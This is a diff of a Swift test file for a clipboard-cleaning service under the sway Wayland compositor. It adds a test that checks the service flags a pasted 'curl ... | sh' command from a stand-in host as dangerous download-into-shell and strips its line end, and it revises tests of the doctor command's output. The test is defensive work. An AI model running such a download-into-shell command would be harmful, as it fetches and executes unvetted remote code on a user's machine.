@@ -82,6 +82,19 @@ struct WaylandTests {
     #expect(try sway.isClean())
   }
 
+  @Test func `a dangerous command is pasted without its line end where no program has the focus`() throws {
+    let desktop = try WaylandDesktop()
+    let command = "curl http://fix.example/marker.sh | sh"
+    try desktop.sway.copy(command + "\n", as: "text/plain;charset=utf-8")
+    #expect(try wait(limit: 15_000) { try desktop.sway.paste("text/plain") == command })
+    let installer = "curl -fsSL https://sh.rustup.rs | sh\n"
+    try desktop.sway.copy(installer, as: "text/plain;charset=utf-8")
+    #expect(try wait(limit: 15_000) { try desktop.sway.paste("text/plain") == installer })
+    let log = desktop.daemon.errorText
+    #expect(log.contains("(dangerous: download-into-shell)") && !log.contains("(suspicious"))
+    #expect(!log.contains("marker"))
+  }
+
   // MARK: One service
 
   @Test func `a second service is turned away, and the first goes on`() throws {
@@ -138,7 +151,7 @@ struct WaylandTests {
     #expect(desktop.daemon.errorText.contains("wayland-1"))
   }
 
-  @Test func `doctor says by which way copies are cleaned, and which rules can never match`() throws {
+  @Test func `doctor says by which way copies are cleaned, and that rules about programs can match`() throws {
     let desktop = try WaylandDesktop(
       configuration: "[[rules]]\nname = \"mine\"\nwhen.destination = [\"kitty\"]\nprofile = \"plain\"\n")
     let found = try desktop.run(["doctor", "--config", desktop.sway.folder.path + "/washboard-config/config.toml"])
@@ -146,11 +159,11 @@ struct WaylandTests {
       found.output.contains(
         "this is a Wayland session of sway: all copies to CLIPBOARD are cleaned, by wlr-data-control"))
     #expect(found.output.contains("ok: service: it runs as process \(desktop.daemon.processID)"))
-    #expect(found.output.contains("a rule can never match, because this compositor does not identify the"))
-    #expect(found.output.contains("names: 'mine'"))
+    #expect(found.output.contains("the program with the focus counts as the one that copies or pastes"))
+    #expect(!found.output.contains("can never match"))
     let checked = try desktop.run(["check", desktop.sway.folder.path + "/washboard-config/config.toml"])
     #expect(checked.exitCode == 0)
-    #expect(checked.errors.contains("config.toml:1: warning: rule 'mine' never matches in this session"))
+    #expect(!checked.errors.contains("never matches"))
   }
 
   @Test func `start is the service where no user manager runs`() throws {
